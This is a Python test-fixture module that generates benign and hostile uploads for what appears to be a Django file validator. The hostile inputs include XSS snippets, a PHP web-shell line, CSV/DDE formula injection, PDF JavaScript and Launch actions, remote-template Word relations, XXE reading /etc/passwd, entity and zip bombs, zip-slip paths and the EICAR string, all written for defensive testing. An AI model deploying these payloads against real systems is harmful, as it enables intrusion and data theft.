"""Papers as a group would send them, and hostile files; made for each test and never kept."""

import io
import zipfile
import zlib
from collections.abc import Iterator

from django.core.files.uploadedfile import SimpleUploadedFile

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SPACE = "http://schemas.openxmlformats.org"


def sent(name: str, content: bytes) -> SimpleUploadedFile:
    """A file as a form brings it."""
    return SimpleUploadedFile(name, content)


def a_pdf(more: bytes = b"", after: bytes = b"") -> bytes:
    """A page that is blank, with something more in its catalogue."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R"
        + more
        + (b">>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n")
        + after
    )


def packed(content: bytes) -> bytes:
    """A PDF of which a part is packed."""
    part = zlib.compress(content)
    return (
        b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n"
        + part
        + (b"\nendstream endobj\nstartxref\n9\n%%EOF")
    )


def a_photo(form: str = "JPEG", size: tuple[int, int] = (40, 30), **more: object) -> bytes:
    """A picture of one colour."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB" if form == "JPEG" else "RGBA", size, "teal").save(out, form, **more)
    return out.getvalue()


def a_zip(parts: dict[str, bytes | str], *, deflated: bool = True) -> bytes:
    """A package of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if deflated else zipfile.ZIP_STORED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def types(main: str, part: str) -> str:
    """The list of what is in a package of Office."""
    return (
        f'<Types xmlns="{SPACE}/package/2006/content-types"><Override PartName="{part}" ContentType="{main}"/></Types>'
    )


def a_docx(more: dict[str, bytes | str] | None = None, main: str = WORD) -> bytes:
    """A Word document."""
    parts: dict[str, bytes | str] = {"[Content_Types].xml": types(main, "/word/document.xml")}
    return a_zip(parts | {"word/document.xml": "<w:document/>"} | (more or {}))


def an_xlsx(more: dict[str, bytes | str] | None = None, rows: str = '<row r="1"><c r="A1"><v>5</v></c></row>') -> bytes:
    """An Excel sheet."""
    main, office = f"{SPACE}/spreadsheetml/2006/main", f"{SPACE}/officeDocument/2006/relationships"
    relations = f'<Relationships xmlns="{SPACE}/package/2006/relationships">'
    one = f'<Relationship Id="r1" Type="{office}'
    sheets = '<sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets>'
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": types(EXCEL, "/xl/workbook.xml"),
        "_rels/.rels": f'{relations}{one}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/_rels/workbook.xml.rels": f'{relations}{one}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}">{sheets}</workbook>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>',
    }
    return a_zip(parts | (more or {}))


def an_odt(more: dict[str, bytes | str] | None = None) -> bytes:
    """An OpenDocument text."""
    parts: dict[str, bytes | str] = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>"}
    return a_zip(parts | (more or {}), deflated=False)


def good() -> Iterator[tuple[str, str, bytes]]:
    """What is taken: (its kind, its name, its bytes)."""
    yield "pdf", "Constitution.pdf", a_pdf()
    yield "pdf", "scan.PDF", a_pdf(b"/OpenAction[3 0 R/Fit]")
    yield "jpeg", "IMG_0001.jpg", a_photo()
    yield "jpeg", "photo.jpeg", a_photo(size=(4000, 3000))
    yield "png", "screen.png", a_photo("PNG")
    yield "docx", "Safeguarding policy.docx", a_docx()
    yield "xlsx", "accounts.xlsx", an_xlsx()
    yield "odt", "rules.odt", an_odt()
    yield "csv", "accounts.csv", b"What,Pounds\nHall,-12.50\nTea,=4\n"
    yield "csv", "excel.csv", "What,£\nHall,12\n".encode("cp1252")
    yield "txt", "rules.txt", "Our rules\n\nWe meet on Mondays – tea at 3 < 4.\n".encode()
    yield "txt", "wide.txt", "Our rules".encode("utf-16")
    yield "pdf", "../../etc/passwd.pdf", a_pdf()
    yield "pdf", "C:\\Users\\Winnie\\rules.pdf", a_pdf()
    yield "pdf", "n" * 251 + ".pdf", a_pdf()
    yield "pdf", "rules\r\nSet-Cookie: a=b.pdf", a_pdf()
    yield "pdf", "Statiwt – Cymraeg “newydd”.pdf", a_pdf()


def relation(kind: str, target: str) -> dict[str, bytes | str]:
    """A relation of a document to something outside."""
    rels = f'<Relationships><Relationship Id="a" Type="{SPACE}/officeDocument/2006/relationships/{kind}"'
    return {"word/_rels/document.xml.rels": f'{rels} Target="{target}" TargetMode="External"/></Relationships>'}


def hostile() -> Iterator[tuple[str, str, bytes]]:
    """What is refused: (what it is, its name, its bytes)."""
    yield "nothing at all", "empty.pdf", b""
    yield "no ending", "constitution", a_pdf()
    yield "only an ending", ".pdf", a_pdf()
    yield "an ending of nobody's", "rules.pages", b"rules of the group"
    for name in ("photo.jpg", "accounts.xlsx", "rules.docx", "rules.txt", "rules.exe"):
        yield f"a PDF called {name}", name, a_pdf()
    for name in ("rules.pdf", "photo.png", "photo.gif", "photo.jpg.exe"):
        yield f"a JPEG called {name}", name, a_photo()
    yield "text called a PDF", "rules.pdf", b"Our rules"
    yield "a Word document called a sheet", "accounts.xlsx", a_docx()
    yield "a sheet called a Word document", "rules.docx", an_xlsx()
    for start in (
        b"MZ\x90\x00",
        b"\x7fELF\x02",
        b"#!/bin/sh\n",
        b"\xd0\xcf\x11\xe0\xa1\xb1",
        b"Rar!\x1a",
        b"7z\xbc\xaf'",
    ):
        yield f"a file that begins {start!r}", "rules.pdf", start + b"\x00" * 40
    yield "gzip", "rules.gz", b"\x1f\x8b\x08" + b"\x00" * 40
    yield "rich text", "rules.rtf", b"{\\rtf1 Hello}"
    yield "a GIF", "photo.gif", b"GIF89a" + b"\x00" * 20
    yield "an Apple photo", "IMG_2.heic", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 20
    yield "a film", "film.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 20
    script = b"<script>alert(1)</script>"
    for name, content in (
        ("page.html", b"<!DOCTYPE html><html>" + script),
        ("page.txt", b"Hello\n" + script),
        ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>"),
        ("drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>"),
        ("drawing.csv", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
        ("wide.txt", "<html>".encode("utf-16")),
        ("link.csv", b"a,javascript:alert(1)\n"),
        ("shell.txt", b"<?php system($_GET['c']); ?>"),
    ):
        yield f"markup in {name}", name, content
    yield "text that is also a PDF", "both.txt", b"Hello\n" + a_pdf()
    yield "bytes that are no text", "rules.txt", b"Hello\x00\x01\x02"
    for formula in (
        b"=cmd|' /C calc'!A0",
        b'=HYPERLINK("http://a.example")',
        b"@SUM(1+1)*cmd|x",
        b'=WEBSERVICE("http://a")',
    ):
        yield f"the formula {formula!r}", "accounts.csv", b"What,Pounds\n" + formula + b",2\n"
    for more in (
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>",
        b"/AA<</O<</S/Launch/F(calc.exe)>>>>",
        b"/Names<</EmbeddedFiles 9 0 R>>/F<</Type/EmbeddedFile>>",
        b"/A<</S/SubmitForm/F(http://a.example)>>",
        b"/AcroForm<</XFA[]>>",
        b"/RichMedia<<>>",
        b"/Encrypt 7 0 R",
    ):
        yield f"a PDF with {more!r}", "rules.pdf", a_pdf(more)
    yield "a PDF whose script is packed", "rules.pdf", packed(b"1 0 <</S/JavaScript/JS(app.alert(1))>>")
    yield "a PDF that is a bomb", "rules.pdf", packed(b"\x00" * (65 * 2**20))
    yield "a PDF cut short", "rules.pdf", a_pdf()[:60]
    yield "a PDF with a page of the web behind", "rules.pdf", a_pdf(after=b"<html>" + script)
    yield "a PDF that is an archive too", "rules.pdf", a_pdf(b"/X(" + a_zip({"a": "b"}) + b")")
    photo = a_photo()
    yield "half a photo", "photo.jpg", photo[: len(photo) // 2]
    yield "a photo that is only its start", "photo.jpg", b"\xff\xd8\xff\xe0" + b"A" * 100
    yield "half a picture", "photo.png", a_photo("PNG")[:60]
    yield "a picture of 20,000 pixels", "wide.png", huge_png(20_000, 20_000)
    yield "a picture that says it is endless", "wide.png", huge_png(2**31 - 1, 2**31 - 1)
    yield "a photo of 20,000 pixels", "wide.jpg", photo.replace(b"\x00\x1e\x00\x28", b"\x4e\x20\x4e\x20", 1)
    yield "a Word document with a macro", "rules.docx", a_docx({"word/vbaProject.bin": b"\x00"})
    yield (
        "a Word document with macros allowed",
        "rules.docx",
        a_docx(main=WORD.replace("document.main", "document.macroEnabled.main")),
    )
    yield (
        "a Word document that fetches a template",
        "rules.docx",
        a_docx(relation("attachedTemplate", "http://a.example/t.dotm")),
    )
    yield (
        "a Word document that fetches an object",
        "rules.docx",
        a_docx(relation("oleObject", "http://a.example/hyperlink")),
    )
    yield (
        "a Word document with a command",
        "rules.docx",
        a_docx({"word/header1.xml": "<w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText>"}),
    )
    yield "a Word document with a program", "rules.docx", a_docx({"word/embeddings/oleObject1.bin": b"\x00"})
    yield (
        "a Word document with a program by another name",
        "rules.docx",
        a_docx({"word/media/image1.png": b"MZ\x90\x00"}),
    )
    yield "an archive in a document", "rules.docx", a_docx({"word/media/image1.png": a_zip({"a": b"b"})})
    entities = "<!DOCTYPE a [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY a{n} '&a;&a;'>" for n in range(9)) + "]><a>&a8;</a>"
    yield "a billion laughs", "rules.docx", a_docx({"word/styles.xml": entities})
    yield (
        "an entity from outside",
        "rules.docx",
        a_docx({"word/styles.xml": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"}),
    )
    yield "an entity in wide letters", "rules.docx", a_docx({"word/styles.xml": "<!DOCTYPE a><a/>".encode("utf-16")})
    for path in ("../../etc/cron.d/a", "/etc/passwd", "C:\\a.txt", "a/../../b"):
        yield f"a document with the path {path}", "rules.docx", a_docx({path: "a"})
    yield "a document with two thousand parts", "rules.docx", a_docx({f"word/{n}.xml": "" for n in range(2_000)})
    yield "a bomb", "rules.docx", a_docx({"word/media/a.png": b"\x00" * (101 * 2**20)})
    yield "a bomb that lies about its size", "rules.docx", lying()
    yield "an archive of archives", "rules.zip", a_zip({f"{n}.zip": a_zip({"a": b"\x00" * 2**20}) for n in range(16)})
    yield "an archive", "papers.zip", a_zip({"rules.pdf": a_pdf()})
    yield "something before an archive", "rules.docx", b"PK\x00\x00" + a_docx()
    yield "half a document", "rules.docx", a_docx()[:-40]
    yield "a document with a password", "rules.odt", an_odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"})
    yield "a locked part", "rules.docx", locked()
    yield "a text with a macro", "rules.odt", an_odt({"Basic/Standard/Module1.xml": "<script:module/>"})
    yield "a text with a listener", "rules.odt", an_odt({"styles.xml": "<script:event-listener/>"})
    yield (
        "a small sheet of a million columns",
        "accounts.xlsx",
        an_xlsx(rows='<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    )
    yield "a sheet that is none", "accounts.xlsx", an_xlsx({"xl/workbook.xml": "<nothing>"})
    yield "what every scanner finds", "rules.txt", eicar()
    yield "what every scanner finds, in a document", "rules.odt", an_odt({"a.txt": eicar()})
    yield "an eleventh megabyte", "scan.pdf", a_pdf(b"/X(" + b" " * (10 * 2**20) + b")")


def eicar() -> bytes:
    """The file that every scanner must find, put together here so that none finds this one."""
    return rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def huge_png(wide: int, high: int) -> bytes:
    """A picture that says it is so large, and has no more than its start."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4) + kind + content + zlib.crc32(kind + content).to_bytes(4)

    head = wide.to_bytes(4) + high.to_bytes(4) + b"\x08\x02\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def lying() -> bytes:
    """A document with a part that says it is 10 bytes and is a hundred million."""
    whole = a_docx({"word/media/a.png": b"\x00" * (101 * 2**20)})
    return whole.replace((101 * 2**20).to_bytes(4, "little"), (10).to_bytes(4, "little"))


def locked() -> bytes:
    """A document whose list of contents says that a part has a password."""
    whole = bytearray(a_docx())
    at = whole.index(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)
